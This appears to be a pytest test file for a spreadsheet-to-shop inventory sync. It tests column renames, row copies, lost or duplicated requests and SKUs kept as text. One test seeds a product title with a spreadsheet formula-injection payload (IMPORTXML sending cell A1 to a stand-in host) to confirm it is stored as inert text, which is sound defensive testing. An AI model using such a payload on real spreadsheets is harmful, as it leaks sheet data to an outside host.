    day.store.type(day.id, tabs.STOCK, f"{letter}1", tabs.ON_HAND)
    below = next(sku for sku in (SCARF, PLATE, PEN) if day.row(sku) == day.row(MUG) + 1)
    day.type(below, "4")
    day.in_the_gap(lambda: day.insert(MUG))
    day.sheet_passes()
    assert (day.figures(MUG), day.edits(MUG), day.cell(MUG)) == ("8/0/8", [-2], 8)
    assert (day.cell(below), day.questions()) == (4, {})


@pytest.mark.parametrize("inserted", [None, tabs.SKU, tabs.TITLE, tabs.ON_HAND])
@pytest.mark.parametrize("typed", ["", "31"], ids=["as it was looked at", "another one typed since"])
def test_a_new_sku_whose_column_is_renamed_as_it_is_opened(day: Day, typed: str, inserted: str | None) -> None:
    """No tag tells yet whose row it is."""
    day.new_row("NEW-1", "30")
    day.sheet_pass()
    letter = day.letter(tabs.SKU)

    def act() -> None:
        if typed:
            day.type("NEW-1", typed)
        day.store.type(day.id, tabs.STOCK, f"{letter}1", "Article")
        if inserted:
            day.store.insert_columns(day.id, tabs.STOCK, day.letter("Article" if inserted == tabs.SKU else inserted))

    day.in_the_gap(act)
    day.sheet_pass()
    day.store.type(day.id, tabs.STOCK, f"{day.letter('Article')}1", tabs.SKU)
    day.sheet_passes()
    count = int(typed or 30)
    assert (day.cell("NEW-1"), day.figures("NEW-1"), day.questions()) == (count, f"{count}/0/{count}", {})


@pytest.mark.parametrize("to", [tabs.TAG_EXCHANGE, tabs.TAG_FIGURE, tabs.STATUS, tabs.TITLE])
def test_on_hand_moved_and_renamed_in_the_gap_and_named_as_before_again(day: Day, to: str) -> None:
    def act() -> None:
        day.type(MUG, "7")
        move(tabs.ON_HAND, to)(day)
        day.store.type(day.id, tabs.STOCK, f"{day.letter(tabs.ON_HAND)}1", "Counted")

    day.type(MUG, "8")
    day.in_the_gap(act)
    day.sheet_pass()
    day.store.type(day.id, tabs.STOCK, f"{day.letter('Counted')}1", tabs.ON_HAND)
    day.ends(mug=7)


def test_columns_moved_and_rows_sorted_in_the_same_gap(day: Day) -> None:
    own_columns(day)
    day.type(MUG, "8")
    day.in_the_gap(lambda: (day.sort(descending=True), move(tabs.TITLE, tabs.ON_HAND)(day)))
    day.ends(mug=8)
    assert (theirs(day, MUG), theirs(day, SCARF)) == (PERSONS | {tabs.NOTE: ""}, PERSONS)


@pytest.mark.parametrize("settled", [False, True], ids=["gap after gap", "long after"])
@pytest.mark.parametrize("at", [tabs.COMMITTED, tabs.STATUS, tabs.UPDATED, tabs.TAG_SKU])
def test_what_we_wrote_into_a_new_column_is_not_taken_for_theirs(day: Day, at: str, settled: bool) -> None:
    """Columns are inserted in two gaps: the second exchange overwrites what the first wrote where no header is."""
    day.type(MUG, "8")
    day.in_the_gap(lambda: insert_at(at)(day))
    (day.sheet_passes if settled else day.sheet_pass)()
    day.type(MUG, "6")
    day.in_the_gap(lambda: insert_at(tabs.SKU)(day))
    day.ends(mug=6)


@pytest.mark.parametrize("kept", ["the row", "its copy"])
def test_a_row_copied_while_a_mistaken_write_stood_in_it(day: Day, kept: str) -> None:
    """Both rows show 8: the one that the typed figure went back to, and the copy of our own, which says nothing."""
    day.type(MUG, "8")
    day.in_the_gap(lambda: insert_at(tabs.STATUS)(day))
    day.sheet_pass()
    assert day.figures(MUG) == "10/0/10", "nothing was counted yet"
    day.in_the_gap(lambda: day.copy(MUG))
    day.sheet_passes()
    assert day.questions() == {MUG: "duplicate"}
    rows = [number for number, sku in enumerate(day.skus(), 1) if sku == MUG]
    day.store.delete_rows(day.id, tabs.STOCK, rows[1] if kept == "the row" else rows[0])
    day.sheet_passes()
    lost = {} if kept == "the row" else {MUG: "lost_cell"}
    assert day.questions() == lost and day.edits(MUG) == ([] if lost else [-2])


def test_what_fell_on_a_row_and_its_copy_goes_back_where_the_copy_is_deleted(day: Day) -> None:
    """2 that are committed fall on On hand of both, which nobody types."""
    day.sold(MUG, 2)
    copied = day.copy(MUG)
    after = day.header()[day.header().index(tabs.COMMITTED) + 1]
    day.in_the_gap(lambda: move(tabs.ON_HAND, after)(day))
    day.sheet_pass()
    assert day.cell(MUG) == 2
    day.store.delete_rows(day.id, tabs.STOCK, copied)
    day.ends()
    assert day.edits(MUG) == []


def test_a_header_renamed_in_the_gap_gives_all_back_and_holds_the_tab(day: Day) -> None:
    own_columns(day)
    day.type(MUG, "8")
    letter = day.letter(tabs.ON_HAND)
    day.in_the_gap(lambda: day.store.type(day.id, tabs.STOCK, f"{letter}1", "Stock"))
    day.sheet_pass()
    assert "no column 'On hand'" in day.sheet_pass().problems[0]
    day.store.type(day.id, tabs.STOCK, f"{letter}1", tabs.ON_HAND)
    day.sheet_passes()
    assert theirs(day, MUG)[tabs.TITLE] == PERSONS[tabs.TITLE]
    assert day.figures(MUG) == "8/0/8" or day.questions() == {MUG: "lost_cell"}


def test_a_header_that_stands_twice_holds_the_tab(day: Day) -> None:
    day.store.type(day.id, tabs.STOCK, f"{day.letter(tabs.LOW_STOCK)}1", tabs.ON_HAND)
    day.type(MUG, "8")
    report = day.sheet_pass()
    assert "'On hand' stands over 2 columns" in report.problems[0]
    assert day.figures(MUG) == "10/0/10"


def test_what_is_put_back_gives_way_to_what_a_person_typed_since(day: Day) -> None:
    own_columns(day)
    day.type(MUG, "8")
    day.in_the_gap(lambda: move(tabs.TITLE, tabs.ON_HAND)(day))
    day.sheet_pass()  # Title was overwritten, and waits to be put back
    day.type(MUG, "Mug, green", tabs.TITLE)
    day.sheet_passes()
    assert day.cell(MUG, tabs.TITLE) == "Mug, green"
    assert day.figures(MUG) == "8/0/8"


@pytest.mark.parametrize("again", [False, True], ids=["once", "and once more"])
def test_the_first_count_of_a_new_sku_typed_as_an_older_one_goes_back_stands(day: Day, again: bool) -> None:
    day.new_row("NEW-1", "30")
    day.type(MUG, "8")
    day.in_the_gap(lambda: day.sort(descending=True))
    day.sheet_pass()
    assert day.cell("NEW-1") == 8, "our figure fell on its row"
    day.in_the_gap(lambda: day.type("NEW-1", "31"))
    day.sheet_pass()
    if again:
        day.type("NEW-1", "32")
    day.sheet_passes()
    count = 32 if again else 31
    assert (day.cell("NEW-1"), day.figures("NEW-1"), day.questions()) == (count, f"{count}/0/{count}", {})


def test_a_figure_typed_over_one_that_waits_to_be_put_back_is_never_mixed_up(day: Day) -> None:
    row = day.new_row("NEW-1")
    day.sheet_passes()
    day.type(MUG, "8")
    mug = day.row(MUG)

    def swap() -> None:
        day.at(mug, tabs.SKU, "NEW-2")
        day.at(row, tabs.SKU, MUG)

    day.in_the_gap(swap)
    day.sheet_pass()
    day.at(mug, tabs.ON_HAND, "3")
    day.sheet_passes()
    assert day.figures(MUG) == "10/0/10"
    assert day.edits(MUG) == []
    assert "NEW-2" in day.questions()


# answers that get lost, requests that come late or twice --------------------------------------------------------


def test_a_lost_answer(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.lose_answer()
    assert day.sheet_pass().again
    assert day.figures(MUG) == "10/0/10"
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_a_lost_answer_and_someone_types_again(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.lose_answer()
    day.sheet_pass()
    day.type(MUG, "7")
    day.ends(mug=7)
    assert day.edits(MUG) == [-2, -1]


def test_a_lost_answer_and_a_restart(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.lose_answer()
    day.sheet_pass()
    day.restart()
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_a_lost_answer_of_the_batch_that_adds_rows_to_the_ledger_tab(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.order(lambda call, proceed: proceed())
    day.faults.lose_answer()
    day.ends(mug=8)
    shown = [row[0] for row in day.store.rows(day.id, tabs.LEDGER)[1:]]
    assert shown == sorted({event.id for event in day.events()}, reverse=True)


def test_a_request_that_never_arrived(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.drop()
    assert day.sheet_pass().again
    day.ends(mug=8)


def test_the_same_request_sent_twice_lands_once(day: Day) -> None:
    day.type(MUG, "8")
    both = day.faults.double()
    day.ends(mug=8)
    first, second = both.result(0)
    assert (first.status, second.status) == (200, 400)
    assert day.edits(MUG) == [-2]


def test_the_same_request_sent_twice_and_only_the_refusal_heard(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.order(lambda call, proceed: [proceed(), proceed()][1])
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_a_request_that_lands_before_the_next_exchange(day: Day) -> None:
    day.type(MUG, "8")
    late = day.faults.late()
    day.sheet_pass()
    day.type(SCARF, "19")
    day.in_the_gap(lambda: late.result(0)())
    day.ends(mug=8, scarf=19)
    assert (day.edits(MUG), day.edits(SCARF)) == ([-2], [-1])


def test_a_request_that_lands_before_the_next_look(day: Day) -> None:
    day.type(MUG, "8")
    late = day.faults.late()
    day.sheet_pass()
    assert late.result(0)().status == 200
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


def test_a_request_that_comes_after_the_next_exchange_is_refused_by_the_sheet(day: Day) -> None:
    day.type(MUG, "8")
    late = day.faults.late()
    day.sheet_pass()
    day.sheet_passes()
    day.type(MUG, "3")
    assert late.result(0)().status == 400
    day.ends(mug=3)
    assert day.edits(MUG) == [-2, -5]


def test_a_refused_batch_changes_nothing_and_the_next_pass_does_it(day: Day) -> None:
    day.type(MUG, "8")
    day.faults.refuse()
    before = day.store.rows(day.id, tabs.STOCK)
    assert day.sheet_pass().again
    assert day.store.rows(day.id, tabs.STOCK) == before
    day.ends(mug=8)


def test_a_worker_that_slept_through_anothers_exchange_changes_nothing(day: Day) -> None:
    other = Day.__new__(Day)
    other.__dict__ |= day.__dict__
    other.desk, other.workbook, other.memory = day.new_desk(), day.new_workbook(), type(day.memory)()
    day.type(MUG, "8")
    day.in_the_gap(lambda: other.sheet_pass())
    day.ends(mug=8)
    assert day.edits(MUG) == [-2]


# text stays text ------------------------------------------------------------------------------------------------

STRANGE = ("00123", "1-2", "MAR1", "1E5")


def test_skus_that_look_like_numbers_or_dates_survive_sheet_ledger_and_shops(day: Day) -> None:
    for sku in STRANGE:
        day.type(sku, "3")
    day.passes()
    assert day.skus()[1:5] == ["00123", "1E5", "MAR1", "1-2"]
    assert {event.fact.sku for event in day.events()} - {EVERY_SKU} == set(STRANGE)
    assert {sku: day.figure("woocommerce", sku) for sku in STRANGE} == dict.fromkeys(STRANGE, 3)
    assert set(day.cell(sku, tabs.TAG_SKU) for sku in STRANGE) == set(STRANGE)


def test_a_title_that_is_a_formula_stands_in_the_sheet_as_text(tmp_path: Path) -> None:
    evil = '=IMPORTXML("http://x/?"&A1,"//a")'
    world = Day(tmp_path, seeds=(Seed(MUG, evil, 10), Seed(SCARF, "+1", 20)))
    try:
        world.begin()
        values = world.workbook.values([f"{tabs.STOCK}!B2:B3", f"{tabs.LEDGER}!E2:E4"], formulas=True)
        assert values[0] == [[evil], ["+1"]]
        assert sorted(str(title) for title in sum(values[1], []) if title) == ["+1", evil]
        assert world.cell(MUG, tabs.TITLE) == evil
    finally:
        world.close()


def test_a_filter_over_the_stock_tab_hides_rows_from_nobody_but_people(day: Day) -> None:
    tab = day.store.book(day.id).tab_named(tabs.STOCK)
    where = {"sheetId": tab.sheet_id, "startRowIndex": 0, "startColumnIndex": 0, "endColumnIndex": len(day.header())}
    specs = [{"columnIndex": 0, "filterCriteria": {"hiddenValues": [MUG]}}]
    day.type(MUG, "8")
    day.type(SCARF, "19")
    day.store.apply(day.id, [{"setBasicFilter": {"filter": {"range": where, "filterSpecs": specs}}}], "person")
    day.ends(mug=8, scarf=19)


def test_rows_added_beyond_the_end_of_the_tab_keep_skus_as_text(day: Day) -> None:
    rows = len(day.store.book(day.id).tab_named(tabs.STOCK).values)
    day.store.delete_rows(day.id, tabs.STOCK, 6, rows - 5)
    shop = day.shops["woocommerce"].shop
    shop.add_product("00777", "Jug", 4)
    with day.ledger.begin() as tx:
        tx.append([Fact("o:00777", "00777", Kind.OPENING, day.clock(), count=4)])
    day.sheet_passes()
    row = day.row("00777")
    day.at(row, tabs.SKU, "00778")
    assert day.skus()[row - 1] == "00778"


def test_every_batch_begins_with_the_chain(new_day: Day) -> None:
    day = new_day
    day.go()
    day.type(MUG, "8")
    day.sheet_passes()
    batches = [call for call in day.faults.calls if is_batch_update(call)]
    assert len(batches) > 3
    assert all(b'"requests":[{"updateNamedRange"' in call.body for call in batches[1:])
